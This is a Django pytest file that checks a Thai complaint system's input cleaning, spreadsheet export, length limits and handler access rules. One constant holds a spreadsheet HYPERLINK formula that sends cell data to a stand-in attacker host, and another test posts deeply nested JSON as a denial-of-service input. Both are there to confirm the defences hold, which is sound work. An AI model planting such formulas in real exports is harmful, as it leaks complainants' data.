"""What an attacker or a careless user typed into a complaint: it is cleaned where it enters, exported as text, and
refused in Thai when too long — the same verdict by form, API and spreadsheet — and never a server error.

Personas (conftest): alice committee@PROV, bob office staff@DIST-A, erin executive@PROV, axel assessor@PROV.
"""
import io
import json

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import reverse
from rest_framework.test import APIClient

from complaints.models import Ticket
from complaints.services import ticket_assign
from complaints.tests.factories import make_ticket

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&E2,"คลิกเพื่อดูรายละเอียด")'


def _export_cells(client) -> list:
    response = client.get(reverse("complaints:export"))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in book.active.iter_rows() for cell in row]


def test_a_control_character_from_the_public_form_is_removed_and_the_export_still_opens(client, offices, people):
    cache.clear()
    client.post(reverse("public:submit"), {
        "kind": "complaint", "office": offices["dist_a"].pk, "subject": "ไฟถนน\x0bดับ", "detail": "ซอย\x00 3",
        "complainant_name": "นาย\x1bประชา", "consent": "on"})
    ticket = Ticket.objects.get()
    assert (ticket.subject, ticket.detail, ticket.complainant_name) == ("ไฟถนนดับ", "ซอย 3", "นายประชา")
    client.force_login(people["alice"])
    assert "ไฟถนนดับ" in [cell.value for cell in _export_cells(client)]


def test_a_row_stored_before_the_cleaning_does_not_break_the_export(client, offices, people):
    ticket = make_ticket(office=offices["dist_a"])
    Ticket.objects.filter(pk=ticket.pk).update(subject="ถนน\x0bพัง")  # as an older version let it in
    client.force_login(people["alice"])
    assert "ถนนพัง" in [cell.value for cell in _export_cells(client)]


def test_a_formula_in_a_complaint_is_exported_as_text_not_as_a_live_formula(client, offices, people):
    cache.clear()
    client.post(reverse("public:submit"), {
        "kind": "complaint", "office": offices["dist_a"].pk, "subject": FORMULA, "detail": "@SUM(1+1)",
        "complainant_name": "+66 81 234 5678", "consent": "on"})
    client.force_login(people["alice"])
    cells = _export_cells(client)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    subject = next(cell for cell in cells if cell.value == FORMULA)
    assert subject.data_type == "s" and subject.quotePrefix  # shown as typed, stays text when edited


def test_the_api_cleans_text_and_refuses_deeply_nested_json_with_a_400(people):
    from core.offices.services import user_token

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {user_token(user=people['bob'])}")
    created = api.post("/api/v1/complaints/", {
        "kind": "complaint", "channel": "phone", "office": "DIST-A", "received_on": "2026-04-10",
        "subject": "น้ำ\x0bประปาไม่ไหล", "detail": "สามวันแล้ว"}, format="json")
    assert created.status_code == 201 and created.json()["subject"] == "น้ำประปาไม่ไหล"
    deep = "[" * 50_000 + "]" * 50_000
    response = api.post("/api/v1/complaints/", deep, content_type="application/json")
    assert response.status_code == 400 and "ซ้อนกันลึก" in response.json()["detail"]
    assert Ticket.objects.count() == 1


@pytest.mark.parametrize("way", ["form", "api"])
def test_text_too_long_is_refused_in_thai_and_writes_nothing(client, people, way):
    long_detail = "ก" * 10_001
    data = {"kind": "complaint", "channel": "phone", "office": "DIST-A", "received_on": "2026-04-10",
            "subject": "ถนนพัง", "detail": long_detail}
    if way == "form":
        client.force_login(people["bob"])
        response = client.post(reverse("complaints:new"), {**data, "channel": 5, "office": people["bob"].office_id,
                                                           "received_on": "10/04/2569"})
        assert response.status_code == 200
        body = response.content.decode()
        assert "ยาวเกิน 10,000 ตัวอักษร" in body and long_detail in body  # what was typed stays in the form
    else:
        from core.offices.services import user_token

        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"Token {user_token(user=people['bob'])}")
        response = api.post("/api/v1/complaints/", data, format="json")
        assert response.status_code == 400
        assert response.json()["detail"] == ["ยาวเกิน 10,000 ตัวอักษร (ที่ส่งมามี 10,001 ตัวอักษร)"]
    assert not Ticket.objects.exists()


def test_a_reopen_reason_longer_than_its_column_is_a_thai_400_not_a_server_error(people, offices):
    from core.offices.services import user_token

    ticket = make_ticket(office=offices["dist_a"])
    from complaints.services import ticket_reply

    ticket_reply(ticket=ticket, kind="final", replied_on=ticket.received_on, method="phone", text="ซ่อมแล้ว")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {user_token(user=people['alice'])}")
    response = api.post(f"/api/v1/complaints/{ticket.reference}/reopen/", {"reason": "ข" * 256}, format="json")
    assert response.status_code == 400 and "ยาวเกิน 255 ตัวอักษร" in json.dumps(response.json(), ensure_ascii=False)
    assert Ticket.objects.get(pk=ticket.pk).round == 1


# --- Who may handle a ticket --------------------------------------------------------------------------------


def test_executives_and_assessors_are_not_offered_as_handlers(client, people, offices):
    ticket = make_ticket(office=offices["prov"], complainant_name="นายลับ ปกปิด", confidential=True)
    client.force_login(people["alice"])
    body = client.get(ticket.get_absolute_url()).content.decode()
    handler_select = body[body.index('name="handler"'):body.index("</select>", body.index('name="handler"'))]
    assert f'value="{people["alice"].pk}"' in handler_select  # the committee may handle it
    assert f'value="{people["erin"].pk}"' not in handler_select
    assert f'value="{people["axel"].pk}"' not in handler_select
    response = client.post(reverse("complaints:action", args=[ticket.reference, "assign"]),
                           {"office": offices["prov"].pk, "handler": people["erin"].pk})
    assert response.status_code == 400
    assert Ticket.objects.get(pk=ticket.pk).handler_id is None


def test_the_api_and_the_service_refuse_an_executive_as_handler(people, offices):
    from django.core.exceptions import ValidationError

    from core.offices.services import user_token

    ticket = make_ticket(office=offices["prov"])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {user_token(user=people['alice'])}")
    response = api.post(f"/api/v1/complaints/{ticket.reference}/assign/",
                        {"office": "PROV", "handler": "axel"}, format="json")
    assert response.status_code == 400 and "handler" in response.json()
    with pytest.raises(ValidationError) as refused:
        ticket_assign(ticket=ticket, office=offices["prov"], handler=people["erin"])
    assert "จัดการเรื่องร้องเรียนได้" in str(refused.value)
    assert Ticket.objects.get(pk=ticket.pk).handler_id is None


@pytest.mark.parametrize("persona", ["erin", "axel"])
def test_an_executive_made_handler_before_the_rule_still_never_sees_the_complainant(client, people, offices,
                                                                                      persona):
    from core.offices.services import user_token

    ticket = make_ticket(office=offices["prov"], complainant_name="นางสาวลับ มาก", complainant_contact="0811111111",
                         confidential=True)
    Ticket.objects.filter(pk=ticket.pk).update(handler=people[persona])  # as an older version allowed
    client.force_login(people[persona])
    page = client.get(ticket.get_absolute_url()).content.decode()
    exported = [cell.value for cell in _export_cells(client)]
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {user_token(user=people[persona])}")
    data = api.get(f"/api/v1/complaints/{ticket.reference}/").json()
    assert "นางสาวลับ" not in page and "0811111111" not in page
    assert "นางสาวลับ มาก" not in exported and "0811111111" not in exported
    assert data["complainant_name"] is None and data["complainant_contact"] is None


# --- Found by the URL walk -----------------------------------------------------------------------------------------


def test_a_province_office_cannot_transfer_a_ticket_into_another_province(client, people, offices):
    from complaints.selectors import transfer_targets
    from core.testing.factories import UserFactory

    province_staff = UserFactory(username="pim", office=offices["prov"], role="office_staff")
    assert set(transfer_targets(user=province_staff).values_list("code", flat=True)) == {
        "DEPT", "PROV", "DIST-A", "DIST-B"}, "up to the department or down its own tree"
    assert set(transfer_targets(user=people["bob"]).values_list("code", flat=True)) == {
        "PROV", "DIST-A", "DIST-B"}, "a district: up to its province or across to a sibling"
    ticket = make_ticket(office=offices["prov"])
    client.force_login(province_staff)
    response = client.post(reverse("complaints:action", args=[ticket.reference, "transfer"]),
                           {"office": offices["other"].pk, "note": "ผิดจังหวัด"})
    assert response.status_code == 400
    assert Ticket.objects.get(pk=ticket.pk).office_id == offices["prov"].pk


def test_the_follow_up_page_of_an_office_outside_the_scope_does_not_exist(client, people, offices):
    client.force_login(people["alice"])
    assert client.get(reverse("complaints:follow-up"), {"office": "OTHER"}).status_code == 404
    response = client.post(reverse("complaints:follow-up") + "?office=OTHER", {"add_plan": "1"})
    assert response.status_code == 404
